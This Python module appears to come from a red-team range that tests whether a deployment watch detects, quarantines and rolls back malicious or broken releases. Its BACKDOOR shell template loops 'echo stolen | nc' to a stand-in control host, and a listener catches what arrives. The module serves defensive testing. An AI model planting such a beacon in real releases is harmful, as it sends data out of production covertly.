"""Attacks by a release that is out already (T5, T1, C3): it calls home, it sickens, or there is no way back from it.

The containers are real, and so is the listener that would hear the stolen word. Detection, quarantine and rollback are the
watch's own work, reported by the range's agent.
"""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Mapping
from types import TracebackType
from typing import Any, Self

from tenuto.errors import Busy
from tenuto.events import AlertRaised, DeploymentQuarantined, DeploymentRolledBack, DeploymentUnhealthy, Event
from tenuto.verification import Verified

from ..containers.engine import EngineFailed
from ..containers.instance import Instance
from ..containers.network import NetworkFailed
from ..containers.rollout import NoWayBack
from ..containers.watch import ContainerWatch, EventsOf
from ..service_process import Unhealthy
from .container_range import ALLOWED, ALLOWED_PORT, CONTROL_PORT, ELSEWHERE, SERVICE, ContainerRange
from .ground import RANGE_AGENT, Ground
from .images import on_range
from .scenario import Lacking, Scenario, Seen, Stop
from .shop import NAME, ShopOnRange

_CALLS = "call() {{ while true; do echo stolen | nc -w 1 {0} {1}; sleep 0.2; done; }}\ncall & exec httpd -f -p $PORT -h /release/www\n"
BACKDOOR, HONEST = _CALLS.format(ELSEWHERE, CONTROL_PORT), _CALLS.format(ALLOWED, ALLOWED_PORT)
"""Programs of a release: one calls whom it may not, one whom it may."""
DETECTED_SECONDS_MAX = 30.0
EVIDENCE_SECONDS_MAX = 15.0
LOOK_PAUSE_SECONDS = 0.3


class Listener:
    """Listens at one address of the world; `heard` is whatever came."""

    def __init__(self, on: ContainerRange, address: str, port: int) -> None:
        """Listens from here on; `with` takes what comes."""
        self._socket = on.listen(address, port)
        self._socket.settimeout(0.1)
        self.heard: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._listen, name="listener")

    def __enter__(self) -> Self:
        """Begin to take calls."""
        self._thread.start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None) -> None:
        """Stop listening."""
        self._stop.set()
        self._thread.join()
        self._socket.close()

    def _listen(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._socket.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(5)
                self.heard.append(connection.recv(100))


def calls_home(ground: Ground) -> Seen:
    """Let a release in production send something to a control server."""
    with on_range(ground) as service, Listener(service.range, ELSEWHERE, CONTROL_PORT) as control:
        _begin(service)
        service.put_in_force("2", program=BACKDOOR)
        watch = service.watch(ground.recorder(RANGE_AGENT), _events_of(ground), ground.clock)
        said = _look_until_done(watch)
        if control.heard:
            return Seen(reached=True, sentence=f"The control server heard {control.heard[0]!r}.")
        return Seen(reached=False, sentence=said or "It called, and nobody noticed.", stops=_stops(ground, {
            "M17": (AlertRaised, "The call was dropped in the container's own network and is an alert."),
            "M22": (DeploymentQuarantined, "The container was cut off, kept and ended, in this order."),
            "R4": (DeploymentRolledBack, "The release before it is back."),
        }))  # fmt: skip


def sickens(ground: Ground) -> Seen:
    """Bring a flagged change into production that is well when it is looked at, and stops answering afterwards."""
    with on_range(ground) as service:
        before = _begin(service, run=f"range-{ground.new_id()}")
        service.put_in_force("2")
        ground.recorder(RANGE_AGENT).record(AlertRaised, run=service.run, refs=("T1", "M18"), **_flag(service))
        service.stop_answering()
        watch = service.watch(ground.recorder(RANGE_AGENT), _events_of(ground), ground.clock)
        said = _look_until_done(watch)
        if service.in_force().digest != before.digest:
            return Seen(reached=True, sentence="The flagged release does not answer and is still in force.")
        return Seen(reached=False, sentence=said, stops=_stops(ground, {
            "M18": (DeploymentUnhealthy, "It was found to be unwell."),
            "R4": (DeploymentRolledBack, "The release before it was put back within its probation."),
        }))  # fmt: skip


def burnt_bridge(ground: Ground) -> Seen:
    """Take the release before away, so that nobody can go back from the next one."""
    with on_range(ground) as service:
        before = _begin(service)
        service.range.signature(NAME, before.digest).unlink()
        try:
            service.release("2")
        except NoWayBack as none:
            stops = _stops(ground, {"R4": (DeploymentUnhealthy, "The way back was tried before the promotion, and is not there.")})
            return Seen(reached=False, sentence=str(none), stops=stops)
        return Seen(reached=True, sentence=f"{SERVICE} was promoted, and there is no way back.")


def _begin(service: ShopOnRange, run: str | None = None) -> Instance:
    """Have an honest release in force; raises Lacking where this machine runs none."""
    try:
        return service.put_in_force("1", run=run)
    except (EngineFailed, NetworkFailed, Unhealthy) as error:
        raise Lacking(f"An honest release does not run on this machine: {error}") from error


def _flag(service: ShopOnRange) -> dict[str, Any]:
    """An alert of the red team about the run: that is what makes a pull request a flagged one."""
    instance = service.in_force()
    return {
        "alert": f"range-flag-{instance.deployment}", "detector": RANGE_AGENT, "version": "1", "rule": "exercise", "severity": "low",
        "score": 0, "suspect": instance.deployment, "evidence": (instance.started,),
    }  # fmt: skip


def _events_of(ground: Ground) -> EventsOf:
    return lambda run: [one for one in ground.since() if one.event.run == run]


def _look_until_done(watch: ContainerWatch) -> str:
    """Look again and again, as the watch's process does; return what it did, or "" when there was nothing in time."""
    deadline = time.monotonic() + DETECTED_SECONDS_MAX
    while time.monotonic() < deadline:
        try:
            done = watch.look()
        except Busy:
            done = None
        if done is not None:
            return done
        time.sleep(LOOK_PAUSE_SECONDS)
    return ""


def _stops(ground: Ground, controls: Mapping[str, tuple[type[Event], str]]) -> tuple[Stop, ...]:
    """The controls whose events came; each rests on all events of its kind since the attack began."""
    stops = []
    for control, (kind, sentence) in controls.items():
        ground.wait_for(_by_us(kind), EVIDENCE_SECONDS_MAX)
        found = tuple(one.event.id for one in filter(_by_us(kind), ground.since()))
        if found:
            stops.append(Stop(control, sentence, found))
    return tuple(stops)


def _by_us(kind: type[Event]) -> Callable[[Verified], bool]:
    return lambda one: isinstance(one.event, kind) and one.event.author == RANGE_AGENT


SCENARIOS = (
    Scenario("release-calls-home", "A word from inside production, on my control server.", ("T5", "C3", "M17", "M22"), calls_home),
    Scenario("release-sickens", "A flagged release that stays in force while it does not answer.", ("T1", "M18", "R4"), sickens),
    Scenario("burnt-bridge", "A promotion from which nobody can go back.", ("R4", "M18"), burnt_bridge),
)  # fmt: skip
